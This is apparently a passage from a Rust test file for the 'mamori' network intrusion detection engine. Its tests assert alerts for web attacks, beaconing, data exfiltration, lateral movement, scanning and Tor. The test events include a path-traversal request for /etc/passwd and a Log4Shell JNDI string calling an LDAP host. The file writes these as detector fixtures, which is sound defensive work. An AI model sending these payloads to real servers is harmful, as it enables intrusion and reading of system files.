                "203.0.113.9",
                "10.0.0.80",
                "www.example.jp",
                "/cgi-bin/%2e%2e/%2e%2e/etc/passwd",
                BROWSER,
            )
            .ev(),
            http(
                "203.0.113.10",
                "10.0.0.80",
                "www.example.jp",
                "/",
                "${jndi:ldap://203.0.113.10/a}",
            )
            .ev(),
            http("10.0.0.7", "198.51.100.6", "198.51.100.6", "/gate", BROWSER).ev(),
            http("10.0.0.7", "198.51.100.7", "x.example", "/", BROWSER)
                .set("mamori.http.x_forwarded_for", "<script>")
                .ev(),
        ],
    );
    let ua = engaged(&a, "mamori.net.http_suspicious_user_agent");
    assert_eq!(ua.len(), 1);
    assert!(ua[0].message.contains("curl"));
    assert_eq!(engaged(&a, "mamori.net.http_binary_download").len(), 1);
    let att = engaged(&a, "mamori.net.http_web_attack");
    assert_eq!(att.len(), 2);
    assert!(att.iter().any(|x| x.message.contains("path traversal")));
    assert!(att.iter().any(|x| x.message.contains("Log4Shell")));
    assert_eq!(engaged(&a, "mamori.net.http_numeric_host").len(), 1);
    assert_eq!(engaged(&a, "mamori.net.http_suspicious_header").len(), 1);

    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [
            http(
                "10.0.0.7",
                "198.51.100.5",
                "www.example.jp",
                "/index.html?q=hello%20world",
                BROWSER,
            )
            .set("http.response.mime_type", "text/html")
            .ev(),
            http(
                "10.0.0.7",
                "198.51.100.5",
                "www.example.jp",
                "/report.pdf",
                BROWSER,
            )
            .set("mamori.http.magic", "pdf")
            .ev(),
            http(
                "10.0.0.7",
                "198.51.100.5",
                "www.example.jp",
                "/setup.exe",
                BROWSER,
            )
            .set("http.response.status_code", 404)
            .set("http.response.mime_type", "text/html")
            .ev(),
        ],
    );
    assert!(a.is_empty(), "{:?}", rules(&a));
}

#[test]
fn beaconing_regular_vs_irregular() {
    let mut e = engine(NONE);
    let evs = (0..12u32).map(|i| {
        let t = f64::from(i) * 60.0 + if i % 2 == 0 { 0.5 } else { -0.5 };
        flow("10.0.0.7", 40000 + i as u16, "198.51.100.44", 8443, "tcp")
            .at(t + 1.0)
            .start(t)
            .ev()
    });
    let a = run(&mut e, evs);
    let en = engaged(&a, "mamori.net.beaconing");
    assert_eq!(en.len(), 1);
    assert!(
        en[0]
            .message
            .contains("10 times every 59.9 s with 1.7 % jitter"),
        "{}",
        en[0].message
    );
    assert!(past(&a, "mamori.net.beaconing")[0]
        .message
        .contains("12 times every 59.9 s"));

    let mut e = engine(NONE);
    let gaps = [
        3.0, 90.0, 7.0, 300.0, 45.0, 12.0, 600.0, 33.0, 5.0, 200.0, 61.0, 17.0,
    ];
    let mut t = 0.0;
    let evs: Vec<_> = gaps
        .iter()
        .enumerate()
        .map(|(i, g)| {
            t += g;
            flow("10.0.0.7", 40000 + i as u16, "198.51.100.44", 8443, "tcp")
                .at(t + 1.0)
                .start(t)
                .ev()
        })
        .collect();
    assert!(engaged(&run(&mut e, evs), "mamori.net.beaconing").is_empty());
}

#[test]
fn exfiltration_volume() {
    let mut e = engine(NONE);
    let evs = (0..12u32).map(|i| {
        flow("10.0.0.7", 40000, "198.51.100.5", 443, "tcp")
            .bytes(100_000_000, 10_000)
            .at(f64::from(i) * 60.0)
            .ev()
    });
    let a = run(&mut e, evs);
    let en = engaged(&a, "mamori.net.data_exfiltration");
    assert_eq!(en.len(), 1);
    assert!(
        en[0]
            .message
            .starts_with("10.0.0.7 sent 1000.0 MB to 1 external hosts"),
        "{}",
        en[0].message
    );
    let mut e = engine(NONE);
    let evs = (0..12u32).map(|i| {
        flow("10.0.0.7", 40000, "10.0.0.50", 445, "tcp")
            .bytes(100_000_000, 10_000)
            .at(f64::from(i) * 60.0)
            .ev()
    });
    assert!(engaged(&run(&mut e, evs), "mamori.net.data_exfiltration").is_empty());
}

#[test]
fn long_lived_joins_active_timeout_records() {
    let mut e = engine(NONE);
    let evs = (0..14u32).map(|i| {
        let s = f64::from(i) * 300.0;
        flow("10.0.0.7", 40000, "198.51.100.5", 22, "tcp")
            .at(s + 300.0)
            .start(s)
            .set("event.reason", "active_timeout")
            .ev()
    });
    let a = run(&mut e, evs);
    let en = engaged(&a, "mamori.net.long_lived");
    assert_eq!(en.len(), 1);
    assert!(
        en[0].message.contains("has lasted 1.0 h"),
        "{}",
        en[0].message
    );
    let mut e = engine(NONE);
    let evs = (0..14u32).map(|i| {
        let s = f64::from(i) * 300.0;
        flow("10.0.0.7", 40000 + i as u16, "198.51.100.5", 22, "tcp")
            .at(s + 200.0)
            .start(s)
            .set("event.reason", "tcp_close")
            .ev()
    });
    assert!(engaged(&run(&mut e, evs), "mamori.net.long_lived").is_empty());
}

#[test]
fn nonstandard_port_icmp_payload_and_tor() {
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [
            flow("10.0.0.7", 40000, "198.51.100.5", 1234, "tcp")
                .proto("http")
                .set("mamori.flow.nonstandard_port", true)
                .ev(),
            flow("10.0.0.7", 0, "198.51.100.6", 0, "icmp")
                .pkts(20, 20)
                .bytes(20 * 1028, 20 * 1028)
                .ev(),
            flow("10.0.0.7", 40001, "198.51.100.7", 9001, "tcp")
                .proto("tor")
                .ev(),
        ],
    );
    let ns = engaged(&a, "mamori.net.nonstandard_port");
    assert_eq!(ns.len(), 1);
    assert_eq!(
        ns[0].message,
        "10.0.0.7 talked http to 198.51.100.5 on non-standard port TCP/1234"
    );
    assert_eq!(engaged(&a, "mamori.net.icmp_payload_anomaly").len(), 2);
    assert_eq!(engaged(&a, "mamori.net.tor").len(), 1);

    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [
            flow("10.0.0.7", 40000, "198.51.100.5", 80, "tcp")
                .proto("http")
                .ev(),
            flow("10.0.0.7", 0, "198.51.100.6", 0, "icmp")
                .pkts(4, 4)
                .bytes(4 * 84, 4 * 84)
                .ev(),
        ],
    );
    assert!(a.is_empty(), "{:?}", rules(&a));
}

#[test]
fn lateral_new_pair_after_learning_and_fanout() {
    let mut e = engine("[checks.lateral_new_pair]\nthresholds = { learning_secs = 600 }\n");
    let a = run(
        &mut e,
        [
            flow("10.0.0.7", 40000, "10.0.0.45", 445, "tcp")
                .proto("smb")
                .at(0.0)
                .ev(),
            flow("10.0.0.7", 40001, "10.0.0.45", 445, "tcp")
                .proto("smb")
                .at(700.0)
                .ev(),
            flow("10.0.0.7", 40002, "10.0.0.46", 3389, "tcp")
                .at(800.0)
                .ev(),
        ],
    );
    let en = engaged(&a, "mamori.net.lateral_new_pair");
    assert_eq!(en.len(), 1);
    assert_eq!(
        en[0].message,
        "10.0.0.7 used RDP on 10.0.0.46:3389 for the first time since learning ended"
    );

    let mut e = engine(NONE);
    let evs = (0..12u8).map(|h| {
        flow("10.0.0.7", 40000, &format!("10.0.5.{h}"), 445, "tcp")
            .state("rejected")
            .at(f64::from(h))
            .ev()
    });
    assert_eq!(
        engaged(&run(&mut e, evs), "mamori.net.admin_fanout").len(),
        1
    );
    let mut e = engine(NONE);
    let evs = (0..3u8).map(|h| {
        flow("10.0.0.7", 40000, &format!("10.0.5.{h}"), 445, "tcp")
            .at(f64::from(h))
            .ev()
    });
    let a = run(&mut e, evs);
    assert!(engaged(&a, "mamori.net.admin_fanout").is_empty());
}

#[test]
fn probing_no_data_and_unidirectional() {
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        (0..12u16).map(|i| {
            flow("10.0.0.7", 40000 + i, "10.0.0.22", 22, "tcp")
                .payload(0, 0)
                .at(f64::from(i) * 10.0)
                .ev()
        }),
    );
    let en = engaged(&a, "mamori.net.tcp_no_data");
    assert_eq!(en.len(), 1);
    assert!(past(&a, "mamori.net.tcp_no_data")[0]
        .message
        .contains("opened 12 TCP connections to 10.0.0.22:22 without"));
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        (0..12u16).map(|i| {
            flow("10.0.0.7", 40000 + i, "10.0.0.22", 22, "tcp")
                .at(f64::from(i) * 10.0)
                .ev()
        }),
    );
    assert!(engaged(&a, "mamori.net.tcp_no_data").is_empty());

    let mut e = engine(NONE);
    let a = run(
        &mut e,
        (0..12u16).map(|i| {
            flow("10.0.0.7", 40000 + i, "10.0.0.9", 9999, "udp")
                .bytes(100, 0)
                .pkts(1, 0)
                .at(f64::from(i) * 10.0)
                .ev()
        }),
    );
    assert_eq!(engaged(&a, "mamori.net.unidirectional").len(), 1);
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        (0..12u16).map(|i| {
            flow("10.0.0.7", 40000 + i, "10.0.0.9", 514, "udp")
                .bytes(100, 0)
                .pkts(1, 0)
                .at(f64::from(i) * 10.0)
                .ev()
        }),
    );
    assert!(engaged(&a, "mamori.net.unidirectional").is_empty());
}

#[test]
fn every_check_is_exercised_by_this_file() {
    // Guard: adding a check to the catalogue without tests here fails this list.
    let covered = [
        "port_scan",
        "host_sweep",
        "tcp_flag_scan",
        "udp_scan",
        "icmp_sweep",
        "unanswered_scan",
        "conn_refused_burst",
        "syn_flood",
        "flow_flood",
        "icmp_flood",
        "dhcp_storm",
        "dhcp_rogue_server",
        "dhcp_starvation",
        "dns_tunnel",
        "dns_txt_volume",
        "dga_domain",
        "nxdomain_flood",
        "dns_large_response",
        "dns_suspicious_type",
        "unexpected_dns_server",
        "unexpected_ntp_server",
        "unexpected_smtp_server",
        "unexpected_dhcp_server",
        "insecure_protocol",
        "cleartext_credentials",
        "remote_access",
        "intel.ip",
        "intel.domain",
        "intel.url",
        "intel.tls_fingerprint",
        "intel.certificate",
        "tls_old_version",
        "tls_weak_cipher",
        "tls_self_signed",
        "tls_cert_expired",
        "tls_cert_expiring",
        "tls_cert_mismatch",
        "tls_missing_sni",
        "tls_numeric_sni",
        "tls_uncommon_alpn",
        "http_suspicious_user_agent",
        "http_binary_download",
        "http_web_attack",
        "http_numeric_host",
        "http_suspicious_header",
        "beaconing",
        "data_exfiltration",
        "long_lived",
        "nonstandard_port",
        "icmp_payload_anomaly",
        "tor",
        "lateral_new_pair",
        "admin_fanout",
        "tcp_no_data",
        "unidirectional",
        "dangerous_host",
        "authorized_scan",
    ];
    assert_eq!(covered.len(), mamori_detect::catalogue().len());
    for c in covered {
        assert!(CheckId::parse(c).is_some(), "{c}");
    }
    let _ = AlertState::Past;
}
